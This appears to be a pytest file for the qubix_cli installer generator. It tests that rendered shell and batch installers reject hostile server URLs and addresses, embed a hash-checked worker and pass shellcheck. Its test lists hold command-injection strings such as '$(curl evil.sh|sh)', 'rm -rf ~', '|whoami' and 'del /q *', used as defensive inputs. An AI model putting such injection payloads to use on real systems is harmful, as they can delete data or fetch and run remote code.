"""Rendering installers: refused values, structure, shellcheck, the endpoint and the CLI."""

from __future__ import annotations

import base64
import hashlib
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from starlette.testclient import TestClient

from qubix_cli.errors import InvalidInput
from qubix_cli.installer.pack import build_worker_pyz
from qubix_cli.installer.render import render
from tests.helpers import ADDRESS

OSES = ["linux", "macos", "windows"]
HOSTILE_URLS = [
    "http://example.com;rm -rf ~",
    "http://example.com/$(curl evil.sh|sh)",
    "http://example.com/`id`",
    "http://example.com/'quoted'",
    'http://example.com/"quoted"',
    "http://example.com/&calc.exe",
    "http://example.com/|whoami",
    "http://example.com/^x",
    "http://example.com/%USERPROFILE%",
    "http://example.com/!PATH!",
    "http://example.com/\nrm -rf ~",
    "http://example.com/\r\ndel /q *",
    "http://example.com/>out",
    "http://example.com/<in",
    "http://example.com/ space",
    "http://user:pass@example.com",
    "http://example.com/?q=1",
    "http://example.com/#frag",
    "http://example.com:99999",
    "http://" + "a" * 2100 + ".com",
    "ftp://example.com",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "example.com",
    "",
]
HOSTILE_ADDRESSES = [
    ADDRESS[:-1] + "A",
    ADDRESS.lower(),
    ADDRESS + "'; rm -rf ~",
    "$(id)" + ADDRESS[5:],
    "A" * 60,
]


@pytest.mark.parametrize("os_name", OSES)
@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_hostile_server_urls_are_refused_before_rendering(os_name: str, url: str) -> None:
    with pytest.raises(InvalidInput):
        render(os_name, url, ADDRESS)


@pytest.mark.parametrize("os_name", OSES)
@pytest.mark.parametrize("address", HOSTILE_ADDRESSES)
def test_hostile_addresses_are_refused(os_name: str, address: str) -> None:
    with pytest.raises(InvalidInput):
        render(os_name, "http://127.0.0.1:8000", address)


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:8000",
        "https://qubix.example.com",
        "https://h.example/qubix/v1",
        "http://[::1]:8000",
        "http://gpu-box.local:8080/a_b~c.d",
    ],
)
def test_plain_urls_are_accepted_and_quoted(url: str) -> None:
    sh = render("linux", url, ADDRESS).content.decode()
    assert f"QUBIX_SERVER='{url}'\n" in sh and f"BUILT_ADDRESS='{ADDRESS}'\n" in sh
    bat = render("windows", url, ADDRESS).content.decode()
    assert f'set "QUBIX_SERVER={url}"\r\n' in bat


def test_the_unknown_os_is_refused() -> None:
    with pytest.raises(InvalidInput, match="windows, linux or macos"):
        render("beos", "http://127.0.0.1:8000")


def _payload(text: str, newline: str) -> bytes:
    body = text.split(f"{newline}__QUBIX_WORKER_PYZ_BASE64__{newline}", 1)[1]
    body = body.split(f"{newline}__QUBIX_WORKER_END__", 1)[0]
    return base64.b64decode("".join(body.split()))


@pytest.mark.parametrize("os_name", ["linux", "macos"])
def test_the_sh_embeds_the_worker_with_its_hash_and_passes_shellcheck(
    os_name: str, tmp_path: Path
) -> None:
    built = render(os_name, "https://qubix.example.com", ADDRESS)
    text = built.content.decode()
    worker = _payload(text, "\n")
    assert worker == build_worker_pyz()
    assert f"WORKER_SHA256={hashlib.sha256(worker).hexdigest()}\n" in text
    script = tmp_path / built.filename
    script.write_bytes(built.content)
    assert subprocess.run(["sh", "-n", str(script)], check=False).returncode == 0
    shellcheck = Path(sys.executable).parent / "shellcheck"
    result = subprocess.run(
        [str(shellcheck), "-s", "sh", str(script)], capture_output=True, text=True, check=False
    )
    assert result.returncode == 0, result.stdout


def test_the_bat_structure() -> None:
    built = render("windows", "https://qubix.example.com", ADDRESS)
    raw = built.content.decode()
    assert "\n" not in raw.replace("\r\n", "")  # CRLF everywhere
    lines = raw.split("\r\n")
    assert max(len(line) for line in lines) < 8000
    assert lines[0] == "@echo off"
    assert "setlocal EnableExtensions EnableDelayedExpansion" in lines
    worker = _payload(raw, "\r\n")
    assert worker == build_worker_pyz()
    assert f'set "WORKER_SHA256={hashlib.sha256(worker).hexdigest()}"' in lines
    # Variables set inside a parenthesised block are read with !NAME! there.
    assert "echo qubix: using !PY!" in lines
    # Execution never falls through into the payload.
    marker = lines.index("__QUBIX_WORKER_PYZ_BASE64__")
    assert lines[marker - 2] == "exit /b 0"


def test_the_endpoint_serves_each_os(client: TestClient) -> None:
    for os_name, suffix, media in [
        ("linux", ".sh", "text/x-shellscript"),
        ("darwin", ".sh", "text/x-shellscript"),
        ("windows", ".bat", "application/x-bat"),
    ]:
        answer = client.get(f"/api/installer/{os_name}?qubicAddress={ADDRESS}")
        assert answer.status_code == 200
        assert answer.headers["content-type"].startswith(media)
        name = "macos" if os_name == "darwin" else os_name
        expected = f'attachment; filename="qubix-installer-{name}{suffix}"'
        assert answer.headers["content-disposition"] == expected
        assert answer.headers["x-checksum-sha256"] == hashlib.sha256(answer.content).hexdigest()
        assert b"http://testserver" in answer.content  # the default backend: this server
        assert ADDRESS.encode() in answer.content


@pytest.mark.parametrize("os_name", OSES)
def test_the_endpoint_refuses_hostile_values(client: TestClient, os_name: str) -> None:
    for url in HOSTILE_URLS[:-1]:
        answer = client.get(f"/api/installer/{os_name}", params={"backend": url})
        assert answer.status_code == 400, url
        assert answer.json()["error"] == "invalid_installer_request"
    for address in HOSTILE_ADDRESSES:
        answer = client.get(f"/api/installer/{os_name}", params={"qubicAddress": address})
        assert answer.status_code == 400
    assert client.get("/api/installer/amiga").status_code == 400


def build(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """`qubix installer build ARGS` run in tmp_path."""
    return subprocess.run(
        [sys.executable, "-m", "qubix_cli", "installer", "build", *args],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        env={**os.environ, "COLUMNS": "200"},
        timeout=60,
        check=False,
    )


def test_qubix_installer_build(tmp_path: Path) -> None:
    result = build(
        tmp_path, "--os", "linux", "--server", "http://127.0.0.1:8000", "--qubic-address", ADDRESS
    )
    assert result.returncode == 0, result.stderr
    written = tmp_path / "qubix-installer-linux.sh"
    digest = hashlib.sha256(written.read_bytes()).hexdigest()
    assert f"SHA-256: {digest}" in result.stdout
    assert "sh qubix-installer-linux.sh" in result.stdout
    assert os.access(written, os.X_OK)


@pytest.mark.parametrize("url", HOSTILE_URLS[:12])
def test_qubix_installer_build_refuses_hostile_urls(url: str, tmp_path: Path) -> None:
    result = build(tmp_path, "--os", "windows", "--server", url)
    assert result.returncode == 1
    assert "server URL" in result.stderr and "Traceback" not in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_refused_values_never_reach_a_script() -> None:
    """Whatever is refused is refused by the one validator that every render goes through:
    a rendered script only ever holds a value that passed it."""
    pattern = re.compile(r"^QUBIX_SERVER='([^'$]*)'$", re.M)
    for url in ["http://ok.example:1/x", *HOSTILE_URLS]:
        try:
            text = render("linux", url).content.decode()
        except InvalidInput:
            continue
        (found,) = pattern.findall(text)
        assert found == url and re.fullmatch(r"[A-Za-z0-9.:/_~\[\]-]+", found)


def test_the_bat_runs_python_orgs_installer_only_after_checking_its_sha256() -> None:
    """No Windows here to run it: the script is read. The pinned hash is the one published
    for python-3.12.7-amd64.exe (python.org, and winget's manifest of it)."""
    text = render("windows", "http://127.0.0.1:8000").content.decode()
    lines = text.splitlines()
    download = next(i for i, line in enumerate(lines) if "Invoke-WebRequest" in line)
    check = next(i for i, line in enumerate(lines) if "Get-FileHash -Algorithm SHA256" in line)
    run = next(i for i, line in enumerate(lines) if 'qubix-python.exe" /quiet' in line)
    assert download < check < run
    assert "if errorlevel 1 (" in lines[check + 1] and "exit /b 1" in "\n".join(lines[check:run])
    assert (
        'set "PYTHON_SHA256=1206721601A62C925D4E4A0DCFC371E88F2DDBE8C0C07962EBB2BE9B5BDE4570"'
        in lines
    )
    assert (
        'set "PYTHON_URL=https://www.python.org/ftp/python/3.12.7/python-3.12.7-amd64.exe"' in lines
    )
